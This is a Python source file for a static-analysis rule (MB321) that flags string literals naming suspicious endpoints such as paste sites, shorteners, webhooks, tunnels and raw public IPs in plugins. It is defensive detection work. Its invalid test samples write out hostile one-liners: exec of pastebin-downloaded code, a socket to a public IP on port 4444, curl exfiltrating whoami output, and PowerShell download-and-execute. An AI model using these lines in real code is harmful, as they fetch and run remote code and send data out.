"""Security rules on the syntax tree: literals naming suspicious endpoints (MB321).

The endpoint kinds are data (``rules/security/endpoints.json``, matched by
:mod:`mbcheck.checks.security.endpoints`); this rule finds the literals.
Docstrings and other bare string statements are documentation, not endpoints,
and test files are not what a host loads, so neither is reported.
"""

from __future__ import annotations

from functools import lru_cache

import libcst as cst

from mbcheck.checks.security.analysis import is_test_file
from mbcheck.checks.security.endpoints import RAW_IP, find_endpoint
from mbcheck.model import Category, Confidence, Severity
from mbcheck.pyfile.literals import literal_string
from mbcheck.pyfile.traverse import FileContext, SourceRule
from mbcheck.rules.base import Invalid, Valid

#: the same literals recur across files: each text is looked up once
_find_endpoint = lru_cache(maxsize=65_536)(find_endpoint)


class SuspiciousEndpoint(SourceRule):
    """A string literal names a public raw IP address, a URL shortener, a paste site, a webhook, tunnel or out-of-band service, or a "what is my IP" service.

    The host of a URL (`https://pastebin.com/raw/x`) or of a bare
    `host[:port][/path]` literal is matched against the table
    `rules/security/endpoints.json` (a domain matches its subdomains too;
    `discord.com/api/webhooks` matches only webhook URLs). A raw IP address
    counts when it is public (`127.0.0.1`, private, link-local and documentation
    ranges never do); a bare dotted number counts only with a port or path, or
    as the host of a `(host, port)` pair. In a text of several words, URLs count
    only when it is a command line (`curl ...`, `wget ...`, a pipe; the table's
    `commands`), so a link in an error message is not reported; neither are
    docstrings, bare string statements and test files.
    Why: these are the endpoints malicious packages use: a shortener or paste
    site hides or later changes the code a plugin downloads, a webhook or
    request-capture service receives stolen data, a tunnel or raw IP is a
    server the author controls and can drop, an IP-lookup service fingerprints
    the machine. An honest plugin rarely needs one.
    Instead: name the real service by its own domain (`https://api.github.com`,
    `https://pypi.org`), let the user configure the URL, and say in the plugin's
    description what is sent where.
    """

    code = "MB321"
    name = "suspicious-endpoint"
    category = Category.SECURITY
    severity = Severity.WARNING
    confidence = Confidence.MEDIUM
    VALID = (
        Valid("import requests\n\ndef latest(name):\n    return requests.get(f'https://pypi.org/pypi/{name}/json', timeout=10).json()\n"),
        Valid("import urllib.request\n\nAPI = 'https://api.github.com/repos/'\nDEV_SERVER = 'http://127.0.0.1:8000'\nLAN = ('192.168.1.20', 8080)\n"),
        Valid('def shorten(url):\n    """Shorten a link, as https://bit.ly/ does; see https://pastebin.com/doc_api."""\n    return url\n'),
        Valid("__version__ = '1.2.3.4'\nDISCORD = 'https://discord.com/developers/docs'\n"),
        Valid("def fail(error):\n    raise RuntimeError(f'{error}; see the troubleshooting guide: https://t.ly/MfX6u')\n"),
    )
    INVALID = (
        Invalid("import requests\n\nHOOK = 'https://discord.com/api/webhooks/1093/AbCdEf'\n\ndef send(data):\n"
                "    requests.post(HOOK, json={'content': data})\n", line=3),
        Invalid("import urllib.request\nexec(urllib.request.urlopen('https://pastebin.com/raw/Xk3vQ9Lm').read())\n", line=2),
        Invalid("import socket\ns = socket.socket()\ns.connect(('45.61.139.7', 4444))\n", line=3),
        Invalid("import requests\nip = requests.get('https://api.ipify.org').text\n", line=2),
        Invalid("import os\nos.system('curl -s http://x7k2.oast.fun/$(whoami)')\n", line=2),
        Invalid("import subprocess\nsubprocess.Popen(['powershell', '-c', 'iwr https://bit.ly/3xQz9 | iex'])\n", line=2),
        Invalid("import requests\n\ndef beacon(name):\n    requests.get(f'https://{name}.ngrok-free.app/ping', timeout=5)\n", line=4),
    )

    def __init__(self, ctx: FileContext) -> None:
        super().__init__(ctx)
        self._skip: set[int] = set()
        self._enabled = not is_test_file(ctx.path)

    def _skip_tree(self, node: cst.BaseExpression) -> None:
        if type(node) is cst.ConcatenatedString:
            self._skip_tree(node.left)
            self._skip_tree(node.right)
        self._skip.add(id(node))

    def visit_Expr(self, node: cst.Expr) -> None:
        if (type(node.value) is cst.SimpleString or type(node.value) is cst.ConcatenatedString or type(node.value) is cst.FormattedString):
            self._skip_tree(node.value)  # a docstring or a bare string statement: documentation

    def visit_FormattedString(self, node: cst.FormattedString) -> None:
        if id(node) in self._skip:
            for part in node.parts:
                self._skip.add(id(part))

    def visit_Tuple(self, node: cst.Tuple) -> None:
        elements = node.elements
        if len(elements) == 2 and type(elements[1].value) is cst.Integer:
            host = elements[0].value
            text = literal_string(host)
            if text is not None and id(host) not in self._skip:
                self._skip_tree(host)
                self._check(host, text, address=True)

    def visit_ConcatenatedString(self, node: cst.ConcatenatedString) -> None:
        if id(node) in self._skip:
            return
        self._skip_tree(node)
        text = literal_string(node)
        if text is not None:
            self._check(node, text)

    def visit_SimpleString(self, node: cst.SimpleString) -> None:
        if id(node) in self._skip:
            return
        text = literal_string(node)
        if text is not None:
            self._check(node, text)

    def visit_FormattedStringText(self, node: cst.FormattedStringText) -> None:
        if id(node) not in self._skip:
            self._check(node, node.value)

    def _check(self, node: cst.CSTNode, text: str, *, address: bool = False) -> None:
        if not self._enabled:
            return
        endpoint = _find_endpoint(text, address=address)
        if endpoint is None:
            return
        if endpoint.description == RAW_IP:
            message = f"literal names the public raw IP address {endpoint.host}"
        else:
            message = f"literal names a suspicious endpoint ({endpoint.description}): {endpoint.host}"
        self.report(node, f"{message}; an honest plugin names its services by their own domain, or lets the user configure them")


__all__ = [
    "SuspiciousEndpoint",
]
